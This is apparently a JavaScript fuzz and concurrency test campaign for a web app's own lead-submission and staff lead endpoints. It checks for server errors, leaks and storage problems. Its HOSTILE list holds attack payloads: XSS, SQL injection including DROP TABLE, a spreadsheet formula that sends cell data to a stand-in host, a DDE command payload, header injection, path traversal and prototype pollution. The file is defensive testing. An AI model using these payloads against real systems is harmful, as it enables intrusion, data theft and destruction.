/**
 * Campaign: leads (docs/decisions.md D12), against POST /api/leads and the staff lead API.
 *
 * 1. Fuzz: seeded random requests. Valid leads with fields spoiled by hostile values (markup,
 *    SQL, formulas, header injection, control characters, lone surrogates, huge strings, wrong
 *    types, prototype keys), as JSON, urlencoded and multipart; junk bodies (truncated, deeply
 *    nested, binary, empty, oversized); wrong content types, methods and path spellings; the
 *    staff endpoints without a key, with wrong keys and with hostile query strings. Every request
 *    from its own client address (the limit is per client), plus bursts from one address.
 *    Passes when nothing answers >= 500 or not at all, every JSON error has the API's shape,
 *    no body leaks SQL, driver text or a stack trace, and every lead the endpoint accepted is
 *    stored and still passes the shared schema. (A body over the 32 KiB limit is refused with 413
 *    before it is read; the local runtime now and then resets such a connection before the client
 *    has finished sending, which Cloudflare's edge does not. Those resets are counted, not failed.)
 * 2. Concurrency: 200 valid submissions at once, each from its own address, each a different
 *    company. Passes when all 200 are accepted and `GET /api/leads` (staff key) returns each
 *    exactly once, under the id its answer gave, as a real lead (not spam).
 */
import { validateLead } from '../../shared/lead.ts';
import { campaignResult, Findings, pool, prng, request, STAFF_KEY, staffHeaders } from './http.mjs';

const CONCURRENT = 200;
/** The endpoint's body limit (worker/api/leads/submit.ts). */
const MAX_BODY_BYTES = 32 * 1024;
const SPAM_FREE_AGE_MS = 3200;

const LEAK_PATTERNS = [
  ['SQLITE', /SQLITE/i],
  ['D1_', /D1_/],
  ['drizzle', /Failed query|drizzle/i],
  ['sql', /\b(?:insert\s+into|update)\s+["`]?leads\b|\bselect\s+[\s\S]{0,200}\bfrom\s+["`]?leads\b/i],
  ['stack trace', /\n\s*at\s|\bat\s+[\w./-]+:\d+:\d+|\.(?:js|ts|mjs):\d+:\d+/],
  ['error class', /\b(?:TypeError|ReferenceError|RangeError|SyntaxError|InternalError)\b/],
  ['internals', /node_modules|\.wrangler|workerd/],
];

const KINDS = ['quote', 'walkthrough', 'franchising'];

/** A valid lead of a kind, the form token already in it. */
function validLead(kind, token, n) {
  const lead = {
    kind,
    name: `Campaign Visitor ${n}`,
    company: `Campaign Company ${n}`,
    email: `campaign.lead.${n}@example.com`,
    phone: '(352) 555-0142',
    facility_type: 'business-offices',
    services: ['janitorial-services'],
    square_footage: '5k-15k',
    location: 'Ocala, FL',
    message: 'Evening cleaning for two floors.',
    contact_method: 'email',
    consent_text: 'By submitting this form, you agree that we may contact you about your request by the method you chose. We never sell or share your details.',
    page: '/contact',
    landing_page: '/',
    referrer: '',
    form_token: token,
  };
  if (kind === 'walkthrough') Object.assign(lead, { preferred_day_1: '2031-03-04', preferred_day_2: '2031-03-05', time_window: 'morning' });
  else lead.frequency = 'weekly';
  return lead;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE leads; --",
  "' OR 1=1 --",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  'Eve\r\nBcc: victim@example.com',
  'a\u0000b',
  '\u202Eevil\u202C',
  '\ud800',
  '😀'.repeat(40),
  'x'.repeat(3000),
  'x'.repeat(70_000),
  '',
  ' ',
  null,
  0,
  -1,
  true,
  [],
  ['a', 'b'],
  {},
  { $gt: '' },
  '__proto__',
  '%00',
  '../../etc/passwd',
  '2031-02-30',
];

const FIELDS = [
  'kind',
  'name',
  'company',
  'email',
  'phone',
  'facility_type',
  'services',
  'square_footage',
  'frequency',
  'location',
  'message',
  'contact_method',
  'consent_text',
  'page',
  'landing_page',
  'referrer',
  'utm_source',
  'gclid',
  'preferred_day_1',
  'preferred_day_2',
  'time_window',
  'website',
  'form_token',
  'cf-turnstile-response',
  'status',
  'id',
  'spam_reason',
  'duplicate_count',
];

let clientSerial = 0;
/** A fresh client address for each request: IPv4 from 100.64.0.0/10, now and then IPv6. */
function freshIp(rng) {
  const n = clientSerial++;
  return rng.chance(0.15)
    ? `2001:db8:${(n >> 8).toString(16)}:${(n & 0xff).toString(16)}::${rng.int(0xffff).toString(16)}`
    : `100.${64 + ((n >> 16) & 63)}.${(n >> 8) & 255}.${n & 255}`;
}

/** encodeURIComponent, except that a lone surrogate (which it refuses) goes out as the bytes of one. */
function encode(value) {
  try {
    return encodeURIComponent(value);
  } catch {
    return `${encodeURIComponent(value.replace(/[\ud800-\udfff]/g, ''))}%ED%A0%80`;
  }
}

function formEncode(fields) {
  const params = new URLSearchParams();
  for (const [k, v] of Object.entries(fields)) {
    if (Array.isArray(v)) for (const x of v) params.append(k, String(x));
    else if (v !== undefined) params.append(k, typeof v === 'object' && v !== null ? JSON.stringify(v) : String(v));
  }
  return params.toString();
}

function multipart(fields) {
  const boundary = '----campaign-boundary-7MA4YWxkTrZu0gW';
  const parts = Object.entries(fields).flatMap(([k, v]) =>
    (Array.isArray(v) ? v : [v]).map(
      (x) => `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${typeof x === 'object' && x !== null ? JSON.stringify(x) : String(x)}\r\n`,
    ),
  );
  return { body: `${parts.join('')}--${boundary}--\r\n`, type: `multipart/form-data; boundary=${boundary}` };
}

/** One fuzz request: { kind, method, path, headers, body }. */
function fuzzCase(rng, token) {
  const roll = rng.next();
  const headers = { 'cf-connecting-ip': freshIp(rng) };
  if (roll < 0.6) {
    // A lead with one to three fields spoiled (or removed, or added).
    const lead = validLead(rng.pick(KINDS), token, `fuzz-${clientSerial}`);
    for (let i = 0, n = 1 + rng.int(3); i < n; i++) {
      const field = rng.pick(FIELDS);
      if (rng.chance(0.15)) delete lead[field];
      else lead[field] = rng.pick(HOSTILE);
    }
    const encoding = rng.pick(['json', 'json', 'json', 'form', 'form', 'multipart']);
    if (encoding === 'json') {
      // Now and then a key that would reach an object's prototype if it were merged carelessly.
      const json = JSON.stringify(lead);
      const body = rng.chance(0.05) ? `{"__proto__":{"status":"won","spam_reason":null},${json.slice(1)}` : json;
      return { kind: 'lead', method: 'POST', path: '/api/leads', headers: { ...headers, 'content-type': 'application/json' }, body };
    }
    if (encoding === 'form')
      return {
        kind: 'lead',
        method: 'POST',
        path: '/api/leads',
        headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' },
        body: formEncode(lead),
      };
    const { body, type } = multipart(lead);
    return { kind: 'lead', method: 'POST', path: '/api/leads', headers: { ...headers, 'content-type': type }, body };
  }
  if (roll < 0.8) {
    // Junk bodies and types.
    const type = rng.pick([
      'application/json',
      'application/json; charset=utf-16',
      'application/x-www-form-urlencoded',
      'multipart/form-data',
      'multipart/form-data; boundary=x',
      'text/plain',
      'application/xml',
      '',
      'application/vnd.api+json',
    ]);
    const body = rng.pick([
      () => '{"kind":',
      () => '',
      () => 'null',
      () => '[]',
      () => `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
      () => `{"kind":"quote","message":"${'x'.repeat(40_000)}"}`,
      () => Buffer.from(Array.from({ length: 512 }, () => rng.int(256))),
      () => 'kind=quote&kind=walkthrough&services=a&services[]=b&name[]=x',
      () => '%%%&&&===',
      () => '--x\r\nContent-Disposition: form-data; name="kind"\r\n\r\nquote\r\n',
      () => JSON.stringify({ kind: 'quote', services: Array.from({ length: 5000 }, () => 'floor-care') }),
    ])();
    if (type) headers['content-type'] = type;
    return { kind: 'junk', method: 'POST', path: '/api/leads', headers, body };
  }
  if (roll < 0.9) {
    // The staff endpoints, without the right key.
    const key = rng.pick([null, 'wrong-key', 'local-dev-anon-key', '', 'Bearer', `${STAFF_KEY}x`]);
    if (key !== null) headers.authorization = `Bearer ${key}`;
    const path = rng.pick([
      '/api/leads',
      '/api/leads.csv',
      '/api/leads/x',
      '/api/leads/%00',
      '/API/LEADS',
      '/api/leads/',
      '/api//leads',
      `/api/leads?status=${encode(rng.pick(HOSTILE.filter((h) => typeof h === 'string')))}`,
    ]);
    const method = rng.pick(['GET', 'GET', 'PATCH', 'DELETE', 'PUT', 'HEAD', 'OPTIONS']);
    return { kind: 'staff-refused', method, path, headers, body: method === 'PATCH' ? '{"status":"won"}' : null };
  }
  // The staff key with hostile query strings and updates: 200 or 400, never more.
  const param = rng.pick(['status', 'kind', 'from', 'to', 'limit', 'offset', 'order', 'select', 'status']);
  const raw = rng.pick(HOSTILE.filter((h) => typeof h === 'string' && h.length < 200));
  const path = rng.pick([
    `/api/leads?${param}=${encode(raw)}`,
    `/api/leads.csv?${param}=${encode(raw)}`,
    `/api/leads?limit=${rng.int(2000) - 500}&offset=${rng.int(1e10) - 10}`,
  ]);
  return { kind: 'staff', method: 'GET', path, headers: staffHeaders(), body: null };
}

function readable(body) {
  try {
    return JSON.stringify(JSON.parse(body));
  } catch {
    return body;
  }
}

const RUNTIME_REFUSALS = new Set([414, 431]);

/** Problems with one answer. */
function judge(c, res) {
  const problems = [];
  if (res.status === 0) problems.push('no answer');
  if (res.status >= 500) problems.push(`status ${res.status}`);
  // A URL or headers too long for the runtime never reach the Worker; a HEAD answer has no body to judge.
  if (RUNTIME_REFUSALS.has(res.status) || c.method === 'HEAD') return problems;
  const type = String(res.headers['content-type'] ?? '');
  if (res.status >= 400 && type.startsWith('application/json')) {
    try {
      const body = JSON.parse(res.body);
      const keys = Object.keys(body).sort().join(',');
      if (keys !== 'code,details,hint,message' && keys !== 'code,details,fields,hint,message') problems.push('error shape');
    } catch {
      problems.push('error not JSON');
    }
  }
  if (c.path.startsWith('/api/leads') && res.status !== 0 && res.headers['cache-control'] !== 'no-store') problems.push('cacheable');
  const sent = `${c.path} ${typeof c.body === 'string' ? c.body : ''}`;
  const text = readable(res.body ?? '');
  for (const [name, re] of LEAK_PATTERNS) if (re.test(text) && !re.test(sent)) problems.push(`leak: ${name}`);
  return problems;
}

function describeCase(c, res) {
  const body =
    c.body === null
      ? null
      : Buffer.isBuffer(c.body)
        ? `<${c.body.length} bytes>`
        : c.body.length > 300
          ? `${c.body.slice(0, 300)}… (${c.body.length} chars)`
          : c.body;
  return { request: `${c.method} ${c.path}`, headers: c.headers, body, status: res.status, response: (res.body ?? '').slice(0, 300) || res.error || '' };
}

/** Every lead as staff read it (the list is paged at 500). */
async function allLeads(baseUrl) {
  const out = [];
  for (let offset = 0; ; offset += 500) {
    const res = await request(baseUrl, { path: `/api/leads?limit=500&offset=${offset}`, headers: staffHeaders() });
    if (res.status !== 200) throw new Error(`GET /api/leads -> ${res.status} ${res.body.slice(0, 200)}`);
    const page = JSON.parse(res.body);
    out.push(...page.leads);
    if (out.length >= page.total || page.leads.length === 0) return out;
  }
}

async function formToken(baseUrl) {
  const res = await request(baseUrl, { path: '/api/form-token', headers: { 'cf-connecting-ip': '198.51.100.77' } });
  if (res.status !== 200) throw new Error(`GET /api/form-token -> ${res.status}`);
  return JSON.parse(res.body).token;
}

const percentile = (sorted, p) => sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? 0;

export async function runLeads({ baseUrl, count, seed, concurrency = 16, log = () => {} }) {
  const started = Date.now();
  const rng = prng(seed);
  const findings = new Findings();
  let requests = 0;
  let fiveXX = 0;
  const send = async (c) => {
    const res = await request(baseUrl, c);
    requests++;
    if (res.status >= 500) fiveXX++;
    return res;
  };

  const token = await formToken(baseUrl);
  await new Promise((r) => setTimeout(r, SPAM_FREE_AGE_MS));

  // --- 1. Fuzz -----------------------------------------------------------------------
  const cases = Array.from({ length: count }, () => fuzzCase(rng, token));
  // Bursts from one address: the limit must answer 429, never fail.
  const burstIp = '100.127.255.1';
  for (let i = 0; i < 15; i++) {
    cases.push({
      kind: 'burst',
      method: 'POST',
      path: '/api/leads',
      headers: { 'cf-connecting-ip': burstIp, 'content-type': 'application/json' },
      body: JSON.stringify(validLead('quote', token, `burst-${i}`)),
    });
  }
  const statuses = {};
  const accepted = new Map();
  let oversizedResets = 0;
  await pool(cases, concurrency, async (c, i) => {
    const res = await send(c);
    c.status = res.status;
    statuses[res.status] = (statuses[res.status] ?? 0) + 1;
    if (res.status === 0 && c.body !== null && Buffer.byteLength(c.body) > MAX_BODY_BYTES) oversizedResets++;
    else for (const p of judge(c, res)) findings.add(p, describeCase(c, res));
    if (c.method === 'POST' && c.path === '/api/leads' && res.status === 201) {
      try {
        accepted.set(JSON.parse(res.body).id, c);
      } catch {
        findings.add('201 without an id', describeCase(c, res));
      }
    }
    if (c.method === 'POST' && c.path === '/api/leads' && res.status === 303) accepted.set(`303-${i}`, c);
    if ((i + 1) % 1000 === 0) log(`  leads fuzz: ${i + 1}/${cases.length}`);
  });
  const burst = cases.filter((x) => x.kind === 'burst').map((x) => x.status);
  if (burst.filter((s) => s === 201).length > 10 || !burst.includes(429)) findings.add('rate limit not applied', { burst });
  const stored = await allLeads(baseUrl);
  const storedIds = new Set(stored.map((l) => l.id));
  for (const id of accepted.keys())
    if (!id.startsWith('303-') && !storedIds.has(id))
      findings.add('accepted lead not stored', { id, request: describeCase(accepted.get(id), { status: 201 }) });
  for (const lead of stored) {
    const { ok } = validateLead({ ...lead });
    if (!ok) findings.add('stored lead fails the schema', { id: lead.id, lead: JSON.stringify(lead).slice(0, 400) });
  }
  const fuzzStored = stored.length;
  const spam = stored.filter((l) => l.status === 'spam').length;
  log(
    `  leads fuzz: ${cases.length} requests, statuses ${JSON.stringify(statuses)} (${oversizedResets} oversized bodies reset by the local runtime), ${fuzzStored} stored (${spam} as spam); one address, 15 at once: ${JSON.stringify(burst)}`,
  );

  // --- 2. 200 valid submissions at once --------------------------------------------------
  const freshToken = await formToken(baseUrl);
  await new Promise((r) => setTimeout(r, SPAM_FREE_AGE_MS));
  const jobs = Array.from({ length: CONCURRENT }, (_, i) => ({
    email: `campaign.concurrent.${i}@example.com`,
    c: {
      method: 'POST',
      path: '/api/leads',
      headers: { 'cf-connecting-ip': `203.0.${Math.floor(i / 250) + 113}.${(i % 250) + 1}`, 'content-type': 'application/json' },
      body: JSON.stringify({ ...validLead(KINDS[i % 3], freshToken, `concurrent-${i}`), email: `campaign.concurrent.${i}@example.com` }),
    },
  }));
  const t0 = Date.now();
  const answers = await Promise.all(jobs.map((j) => send(j.c)));
  const burstMs = Date.now() - t0;
  const latencies = answers.map((a) => a.ms).sort((a, b) => a - b);
  const answerStatuses = {};
  const idByEmail = new Map();
  answers.forEach((res, i) => {
    answerStatuses[res.status] = (answerStatuses[res.status] ?? 0) + 1;
    if (res.status !== 201) findings.add('concurrent lead refused', describeCase(jobs[i].c, res));
    else idByEmail.set(jobs[i].email, JSON.parse(res.body).id);
  });
  const after = await allLeads(baseUrl);
  const mine = after.filter((l) => l.email.startsWith('campaign.concurrent.'));
  const perEmail = Object.groupBy(mine, (l) => l.email);
  let exactlyOnce = 0;
  for (const job of jobs) {
    const rows = perEmail[job.email] ?? [];
    if (rows.length !== 1) findings.add('concurrent lead not stored exactly once', { email: job.email, rows: rows.length });
    else if (rows[0].id !== idByEmail.get(job.email))
      findings.add('stored under another id', { email: job.email, answered: idByEmail.get(job.email), stored: rows[0].id });
    else if (rows[0].status !== 'new')
      findings.add('concurrent lead not a real lead', { email: job.email, status: rows[0].status, spam_reason: rows[0].spam_reason });
    else exactlyOnce++;
  }
  log(
    `  leads concurrency: ${CONCURRENT} at once -> ${JSON.stringify(answerStatuses)} in ${burstMs} ms (p50 ${percentile(latencies, 50).toFixed(0)} ms, p99 ${percentile(latencies, 99).toFixed(0)} ms); ${exactlyOnce}/${CONCURRENT} stored exactly once`,
  );

  return campaignResult({
    name: 'Leads',
    requests,
    fiveXX,
    findings,
    started,
    rowsChanged: null,
    details: {
      seed,
      fuzz: { requests: cases.length, statuses, oversizedResets, accepted: accepted.size, stored: fuzzStored, spam, burst },
      concurrency: {
        submissions: CONCURRENT,
        statuses: answerStatuses,
        storedExactlyOnce: exactlyOnce,
        wallMs: burstMs,
        p50Ms: Math.round(percentile(latencies, 50)),
        p99Ms: Math.round(percentile(latencies, 99)),
      },
      findings: findings.toJSON(),
    },
  });
}
